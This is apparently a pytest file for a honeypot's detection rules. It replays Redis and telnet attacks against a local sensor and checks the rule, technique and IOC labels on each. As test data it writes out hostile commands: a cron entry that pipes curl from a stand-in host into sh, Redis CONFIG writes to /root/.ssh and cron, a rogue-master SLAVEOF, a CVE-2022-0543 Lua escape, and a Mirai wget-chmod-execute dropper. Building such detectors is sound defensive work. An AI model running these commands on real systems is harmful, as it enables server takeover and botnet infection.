"""Detection on Redis commands and telnet shells: real redis-cli and a telnet bot against a sensor."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from honeyguard.config import LoginCredential, SshSettings
from honeyguard.detect.fields import redis_subject
from honeyguard.detect.iocs import subject_iocs
from honeyguard.detect.labeler import RuleLabeler, load_labeler
from honeyguard.detect.rules import load_rule_file
from honeyguard.errors import ContentError
from honeyguard.model import Event, Ioc
from tests.conftest import tool
from tests.detect._support import builtin_engine, write_rules
from tests.sensor.wire_helpers import RawClient

CRON_LINE = "\n\n*/1 * * * * curl -fsSL http://198.51.100.9/y.sh | sh\n\n"


@pytest.fixture(scope="module")
def labeler() -> RuleLabeler:
    return load_labeler()


def redis_cli(port: int, *args: str) -> str:
    result = subprocess.run([tool("redis-cli"), "-h", "127.0.0.1", "-p", str(port), *args],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return result.stdout


def by_command(events: list[Event]) -> dict[str, Event]:
    """The redis.command events keyed by their line (command and arguments)."""
    return {" ".join(e.body.args): e for e in events if e.kind == "redis.command"}  # type: ignore[union-attr]


def test_redis_cli_attack_is_labelled(make_sensor, labeler: RuleLabeler) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["redis"], labeler=labeler)
    port = sensor.port("redis")
    sent = [
        ["FLUSHALL"],
        ["SET", "backup1", CRON_LINE],
        ["CONFIG", "SET", "dir", "/var/spool/cron"],
        ["CONFIG", "SET", "dbfilename", "root"],
        ["CONFIG", "SET", "dir", "/root/.ssh"],
        ["SLAVEOF", "198.51.100.7", "21000"],
        ["MODULE", "LOAD", "/tmp/exp.so"],
        ["EVAL", "return io.popen('id'):read('*a')", "0"],
        ["SET", "user:1", "alice"],
        ["SLAVEOF", "NO", "ONE"],
    ]
    for args in sent:
        redis_cli(port, *args)
    events = sensor.sink.wait_for(lambda evs: len([e for e in evs if e.kind == "session.closed"]) >= len(sent))
    seen = by_command(events)
    expected = {
        "FLUSHALL": "hg-redis-flushall",
        "SET backup1 " + CRON_LINE: "hg-redis-set-cron-payload",
        "CONFIG SET dir /var/spool/cron": "hg-redis-config-dir-cron",
        "CONFIG SET dbfilename root": "hg-redis-config-dbfilename",
        "CONFIG SET dir /root/.ssh": "hg-redis-config-dir-ssh",
        "SLAVEOF 198.51.100.7 21000": "hg-redis-rogue-master",
        "MODULE LOAD /tmp/exp.so": "hg-redis-module-load",
        "EVAL return io.popen('id'):read('*a') 0": "hg-cve-2022-0543-redis-lua-escape",
    }
    for line, rule in expected.items():
        assert rule in seen[line].rules, (line, seen[line].rules)
    assert "T1098.004" in seen["CONFIG SET dir /root/.ssh"].techniques
    assert "T1053.003" in seen["CONFIG SET dir /var/spool/cron"].techniques
    assert seen["EVAL return io.popen('id'):read('*a') 0"].cves == ["CVE-2022-0543"]
    rogue = seen["SLAVEOF 198.51.100.7 21000"]
    assert "T1105" in rogue.techniques
    assert Ioc(type="ip", value="198.51.100.7", role="c2") in rogue.iocs
    assert Ioc(type="endpoint", value="198.51.100.7:21000", role="c2") in rogue.iocs
    assert Ioc(type="url", value="http://198.51.100.9/y.sh", role="download") in seen["SET backup1 " + CRON_LINE].iocs
    for benign in ("SET user:1 alice", "SLAVEOF NO ONE"):
        assert seen[benign].rules == [] and seen[benign].iocs == [], benign


def test_inline_lowercase_commands_match(labeler: RuleLabeler) -> None:
    """The command name is upper-cased for rules; arguments keep their case."""
    result = labeler.classify(redis_subject([b"replicaof", b"Rogue.Example.NET", b"6379"]))
    assert result.rules == ("hg-redis-rogue-master",)
    assert Ioc(type="domain", value="rogue.example.net", role="c2") in result.iocs
    assert Ioc(type="endpoint", value="rogue.example.net:6379", role="c2") in result.iocs


def test_rogue_master_iocs_skip_loopback_and_bad_ports() -> None:
    assert subject_iocs(redis_subject([b"SLAVEOF", b"127.0.0.1", b"6379"])) == []
    found = subject_iocs(redis_subject([b"SLAVEOF", b"198.51.100.7", b"99999"]))
    assert [i.type for i in found] == ["ip"]


def test_ssh_rules_label_telnet_sessions(make_sensor, labeler: RuleLabeler) -> None:  # type: ignore[no-untyped-def]
    ssh = SshSettings(accept_after_attempts=0, credentials=[LoginCredential(username="root", password="xc3511")])
    sensor = make_sensor(["telnet"], ssh=ssh, labeler=labeler)
    client = RawClient(sensor.port("telnet"), answer_options=True)
    client.telnet_login("root", "xc3511")
    lines = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI",
             "cd /tmp; /bin/busybox wget http://203.0.113.50/bins/mirai.mips; chmod 777 mirai.mips; ./mirai.mips",
             "cat /proc/mounts"]
    for line in lines:
        client.send(line.encode() + b"\r\n")
        client.read_until(b"\r\n# ")
    client.send(b"exit\r\n")
    client.read_to_close()
    client.close()
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    commands = {e.body.line: e for e in events if e.kind == "ssh.command"}
    assert {e.protocol for e in commands.values()} == {"telnet"}
    for line in lines[:5]:
        assert "hg-tech-mirai-busybox-sequence" in commands[line].rules, line
        assert "T1059.004" in commands[line].techniques
    dropper = commands[lines[5]]
    assert "hg-tech-dropper-chmod-exec" in dropper.rules  # a protocol: ssh rule, on a telnet event
    assert Ioc(type="url", value="http://203.0.113.50/bins/mirai.mips", role="download") in dropper.iocs
    assert commands["cat /proc/mounts"].rules == []


REDIS_RULE = """\
rules:
  - id: hg-test-redis
    name: test rule
    severity: low
    protocol: {protocol}
    match:
      all:
        - field: command
          equals: CONFIG
        - field: {field}
          contains: /root/.ssh
    examples:
      positive:
        - {kind}: {{args: ["CONFIG", "SET", "dir", "/root/.ssh"]}}
      negative:
        - redis: {{args: ["CONFIG", "GET", "dir"]}}
"""


def test_redis_rule_loads_and_mistakes_are_refused(tmp_path: Path) -> None:
    good = load_rule_file(write_rules(tmp_path, REDIS_RULE.format(protocol="redis", field="args", kind="redis")))
    assert [r.id for r in good if not isinstance(r, ContentError)] == ["hg-test-redis"]
    for protocol, field, kind, message in (("redis", "body", "redis", "'body' is not a redis field"),
                                           ("http", "args", "redis", "'args' is not a http field"),
                                           ("ssh", "command", "redis", "a redis example for a ssh rule")):
        text = REDIS_RULE.format(protocol=protocol, field=field, kind=kind)
        if protocol == "http":
            text = text.replace("field: command", "field: method")
        errors = [r for r in load_rule_file(write_rules(tmp_path, text)) if isinstance(r, ContentError)]
        assert errors and message in str(errors[0]), (protocol, field, errors)


@pytest.mark.parametrize("args", [
    [b"CONFIG", b"SET", b"dir", b"/root/.ssh"], [b"config", b"set", b"dbfilename", b"shell.php"],
    [b"SLAVEOF", b"198.51.100.7", b"21000"], [b"SET", b"x", CRON_LINE.encode()], [b"PING"],
    [b"EVAL", b"local l = package.loadlib('/usr/lib/liblua5.1.so.0', 'luaopen_io')", b"0"],
])
def test_both_engines_agree_on_redis_commands(args: list[bytes]) -> None:
    subject = redis_subject(args)
    found = builtin_engine("hyperscan").match(subject)
    assert found == builtin_engine("re").match(subject)
    assert bool(found.rules) == (args != [b"PING"])
